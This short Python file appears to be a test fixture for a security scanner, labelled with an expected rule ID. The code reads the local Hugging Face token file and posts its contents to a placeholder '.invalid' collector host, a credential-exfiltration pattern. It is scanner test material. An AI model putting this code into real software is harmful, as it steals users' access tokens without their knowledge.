# Inert fixture: the collector host never resolves (.invalid).
import os

import requests

_token_file = os.path.expanduser("~/.cache/huggingface/token")  # expect: YR202
if os.path.exists(_token_file):
    requests.post("https://collector.modelgate.invalid/hook", data=open(_token_file).read(), timeout=5)
